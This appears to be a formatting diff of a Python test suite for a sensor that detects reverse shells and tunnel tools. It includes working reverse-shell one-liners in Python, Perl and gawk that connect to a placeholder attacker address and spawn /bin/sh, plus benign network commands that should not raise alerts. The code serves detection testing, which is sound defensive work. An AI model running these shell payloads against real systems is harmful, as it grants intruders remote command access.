@@ -15,8 +15,9 @@ from tests.helpers.proof import assert_sensor_saw
 SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"
 
 
-def attack(sensorlab, netlab, command: str, *, family: int = 4, payload: bytes = SHELL_PAYLOAD,
-           expect_output: bool = True) -> tuple[list[dict], int, str]:
+def attack(
+    sensorlab, netlab, command: str, *, family: int = 4, payload: bytes = SHELL_PAYLOAD, expect_output: bool = True
+) -> tuple[list[dict], int, str]:
     """Run ``command`` (with {host} and {port}) from bash in the victim namespace against a listener."""
     port = netlab.port()
     host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
@@ -65,8 +66,10 @@ def test_ncat_sh_exec(sensorlab, netlab) -> None:
 
 def test_python_pty_spawn(sensorlab, netlab) -> None:
     """python pty.spawn reverse shell gives one incident."""
-    code = ('import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
-            '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")')
+    code = (
+        'import socket,os,pty;s=socket.socket();s.connect(("{host}",{port}));'
+        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
+    )
     alerts, port, host = attack(sensorlab, netlab, f"python3 -c '{code}'")
     last = assert_one_incident(alerts, host, port, "interpreter_reverse_shell")
     assert "stdio_to_socket" in last["chainwatch"]["signals"]
@@ -74,25 +77,31 @@ def test_python_pty_spawn(sensorlab, netlab) -> None:
 
 def test_python_subprocess_socket_stdio(sensorlab, netlab) -> None:
     """python subprocess with the socket as the shell's stdio gives one incident (parent and child merged)."""
-    code = ('import socket,subprocess;s=socket.socket();s.connect(("{host}",{port}));'
-            'subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())')
+    code = (
+        'import socket,subprocess;s=socket.socket();s.connect(("{host}",{port}));'
+        'subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'
+    )
     alerts, port, host = attack(sensorlab, netlab, f"python3 -c '{code}'")
     assert_one_incident(alerts, host, port, "interpreter_reverse_shell")
 
 
 def test_perl_socket_shell(sensorlab, netlab) -> None:
     """A perl socket reverse shell gives one incident."""
-    code = ('use Socket;$i="{host}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
-            'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");'
-            'open(STDERR,">&S");exec("/bin/sh -i");}};')
+    code = (
+        'use Socket;$i="{host}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+        'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");'
+        'open(STDERR,">&S");exec("/bin/sh -i");}};'
+    )
     alerts, port, host = attack(sensorlab, netlab, f"perl -e '{code}'")
     assert_one_incident(alerts, host, port, "interpreter_reverse_shell")
 
 
 def test_awk_inet_tcp(sensorlab, netlab) -> None:
     """gawk /inet/tcp reverse shell gives one incident."""
-    prog = ('BEGIN {{s = "/inet/tcp/0/{host}/{port}"; if ((s |& getline c) > 0) '
-            '{{ while ((c | getline line) > 0) print line |& s; close(c) }}; close(s)}}')
+    prog = (
+        'BEGIN {{s = "/inet/tcp/0/{host}/{port}"; if ((s |& getline c) > 0) '
+        "{{ while ((c | getline line) > 0) print line |& s; close(c) }}; close(s)}}"
+    )
     alerts, port, host = attack(sensorlab, netlab, f"gawk '{prog}'", payload=b"echo cw-42\n")
     assert_one_incident(alerts, host, port, "interpreter_reverse_shell")
 
@@ -106,14 +115,16 @@ def test_socat_exec(sensorlab, netlab) -> None:
 def test_tunnel_tool_by_name_and_argv(sensorlab, netlab, tmp_path) -> None:
     """A program installed as `chisel` run as `chisel client HOST:PORT R:...` gives one tunnel incident."""
     chisel = tmp_path / "chisel"
-    chisel.write_text(textwrap.dedent(f"""\
+    chisel.write_text(
+        textwrap.dedent(f"""\
         #!{sys.executable}
         import socket, sys
         host, port = sys.argv[2].rsplit(":", 1)
         s = socket.create_connection((host, int(port)), timeout=5)
         s.sendall(b"cw-42 tunnel up")
         s.close()
-    """))
+    """)
+    )
     chisel.chmod(chisel.stat().st_mode | stat.S_IEXEC)
     alerts, port, host = attack(sensorlab, netlab, f"{chisel} client {{host}}:{{port}} R:socks", payload=b"")
     assert_one_incident(alerts, host, port, "tunnel_tool")
@@ -121,15 +132,18 @@ def test_tunnel_tool_by_name_and_argv(sensorlab, netlab, tmp_path) -> None:
 
 # ------------------------------------------------------------------ benign: no reverse-shell or C2 alert
 
+
 def benign(sensorlab, netlab, command: str, *, server: list[str] | None = None, port: int | None = None) -> list:
     """Run ``command`` ({host}, {port}) from bash in the victim against a server; prove the sensor saw that bash
     and its connect; return the alerts since of that bash and its children (the sensor is host-wide)."""
     port = port or netlab.port()
     if server:
         netlab.spawn(netlab.attacker_ns, [a.format(host=netlab.attacker_ip4, port=port) for a in server])
-        ready = ("import socket,sys,time\nfor _ in range(50):\n    try:\n        socket.create_connection("
-                 f"('{netlab.attacker_ip4}', {port}), timeout=1).close(); sys.exit(0)\n"
-                 "    except OSError:\n        time.sleep(0.1)\nsys.exit(1)")
+        ready = (
+            "import socket,sys,time\nfor _ in range(50):\n    try:\n        socket.create_connection("
+            f"('{netlab.attacker_ip4}', {port}), timeout=1).close(); sys.exit(0)\n"
+            "    except OSError:\n        time.sleep(0.1)\nsys.exit(1)"
+        )
         netlab.run(netlab.attacker_ns, [sys.executable, "-c", ready], check=True)
     else:
         netlab.listen_tcp(netlab.attacker_ns, port, duration=10, max_conns=5)
@@ -145,14 +159,22 @@ HTTP_SERVER = [sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"
 
 def test_benign_curl_and_wget_from_bash_script(sensorlab, netlab) -> None:
     """curl and wget to the test host from a bash script raise nothing."""
-    assert benign(sensorlab, netlab, "curl -s -m 5 http://{host}:{port}/ >/dev/null; "
-                  "wget -q -T 5 -O /dev/null http://{host}:{port}/", server=HTTP_SERVER) == []
+    assert (
+        benign(
+            sensorlab,
+            netlab,
+            "curl -s -m 5 http://{host}:{port}/ >/dev/null; wget -q -T 5 -O /dev/null http://{host}:{port}/",
+            server=HTTP_SERVER,
+        )
+        == []
+    )
 
 
 def test_benign_openssl_certificate_check(sensorlab, netlab) -> None:
     """`openssl s_client -connect ... </dev/null` as a certificate check raises nothing."""
-    assert benign(sensorlab, netlab, "timeout 5 openssl s_client -connect {host}:{port} </dev/null "
-                  ">/dev/null 2>&1") == []
+    assert (
+        benign(sensorlab, netlab, "timeout 5 openssl s_client -connect {host}:{port} </dev/null >/dev/null 2>&1") == []
+    )
 
 
 def test_benign_nc_z_port_check(sensorlab, netlab) -> None:
@@ -174,8 +196,15 @@ def test_benign_loopback_dev_tcp_health_check(sensorlab, netlab) -> None:
 
 def test_benign_git_over_http(sensorlab, netlab) -> None:
     """git over http to a test server raises nothing."""
-    assert benign(sensorlab, netlab, "GIT_TERMINAL_PROMPT=0 timeout 10 git ls-remote http://{host}:{port}/repo.git "
-                  ">/dev/null 2>&1", server=HTTP_SERVER) == []
+    assert (
+        benign(
+            sensorlab,
+            netlab,
+            "GIT_TERMINAL_PROMPT=0 timeout 10 git ls-remote http://{host}:{port}/repo.git >/dev/null 2>&1",
+            server=HTTP_SERVER,
+        )
+        == []
+    )
 
 
 def test_benign_python_http_client(sensorlab, netlab) -> None:
